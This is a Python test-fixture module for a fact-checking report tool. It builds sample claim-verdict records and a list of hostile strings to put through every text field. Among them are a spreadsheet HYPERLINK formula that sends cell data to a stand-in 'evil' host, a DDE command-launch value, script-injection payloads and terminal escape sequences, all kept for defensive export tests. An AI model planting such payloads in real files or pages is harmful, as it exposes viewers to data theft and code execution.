"""Sample verdict records and hostile strings shared by the report tests (no tests here)."""

from __future__ import annotations

import dataclasses

from store.models import VerdictRecord

# RELIABILITY B1-B4 and A3/A4/C5 inputs, each placed in every text field of a record.
HOSTILE_STRINGS: tuple[str, ...] = (
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\0=1",
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "| a | b |",
    "[x](javascript:alert(1))",
    "![i](https://evil.example/x.png)",
    "<https://evil.example>",
    "https://evil.example/bare",
    "www.evil.example",
    "someone@evil.example",
    "# heading",
    "1. ordered",
    "- bullet",
    "> quote",
    "<script>",
    "`code` **bold** _em_ ~~strike~~ $x$",
    "&lt;b&gt; &amp;",
    "[x]: https://evil.example",
    "line one\nline two\r\nline three",
    "中文句子。第二句！",
    "👨‍👩‍👧 Zoë naïve",
    "Vote \u202eetad\u202c",
    "\x1b]52;c;SGVsbG8=\x07\x9b31m",
    "bad\udcff",
    "split\u2028here\u2029and\x85there",
)

# Every free-text field of a record (the verdict is one of three fixed words): derived,
# so a text field added to VerdictRecord is put through the hostile samples too.
TEXT_FIELDS: tuple[str, ...] = tuple(
    f.name for f in dataclasses.fields(VerdictRecord) if f.type == "str" and f.name != "verdict"
)


def make_record(**changes: object) -> VerdictRecord:
    """A plausible judged claim; keyword arguments replace fields."""
    record = VerdictRecord(
        claim_id=11,
        claim_text="The army announced a counter-offensive on 3 May.",
        verdict="contested",
        note="Two outlets report a different date.",
        checker="alice",
        at="2024-05-06T09:30:00+00:00",
        article_id=1,
        article_title="Counter-offensive announced",
        article_url="https://news.example/articles/1",
        article_source="News Example",
        article_published="2024-05-05",
        best_match_text="Army says counter-offensive began on 1 May.",
        best_match_source="Checkers United",
        best_match_url="https://checkers.example/fc/42",
        best_match_rating="False",
        best_match_score=87.5,
        evidence=("https://evidence.example/a", "https://evidence.example/b?x=1&y=2"),
        corroborating_sources=2,
        earliest_seen="2024-05-04",
    )
    return dataclasses.replace(record, **changes)


def sample_records() -> list[VerdictRecord]:
    """A fixed set of records over three articles and all three verdicts."""
    return [
        make_record(),
        make_record(
            claim_id=12,
            claim_text="Six groups joined the operation.",
            verdict="corroborated",
            note="",
            checker="bob",
            best_match_text="",
            best_match_source="",
            best_match_url="",
            best_match_rating="",
            best_match_score=None,
            evidence=(),
            corroborating_sources=0,
            earliest_seen="",
        ),
        make_record(
            claim_id=21,
            claim_text="Le cessez-le-feu d’Astana a été signé en 2017.",
            verdict="corroborated",
            checker="alice",
            article_id=2,
            article_title="Astana : l’accord",
            article_url="https://presse.example/astana",
            article_source="Presse Exemple",
            corroborating_sources=1,
        ),
        make_record(
            claim_id=31,
            claim_text="Losses reached 400 on the first day.",
            verdict="unverified",
            note="No independent figure yet.",
            checker="carol",
            article_id=3,
            article_title="First day of fighting",
            article_url="",
            article_source="",
            article_published="",
            evidence=(),
        ),
    ]


def hostile_records() -> list[VerdictRecord]:
    """One record per hostile string, the string in every text field and as evidence."""
    records = []
    for index, text in enumerate(HOSTILE_STRINGS):
        fields = {name: text for name in TEXT_FIELDS}
        records.append(
            make_record(
                claim_id=100 + index,
                article_id=100 + index,
                verdict=("corroborated", "contested", "unverified")[index % 3],
                evidence=(text, "https://ok.example/e"),
                **fields,
            )
        )
    return records
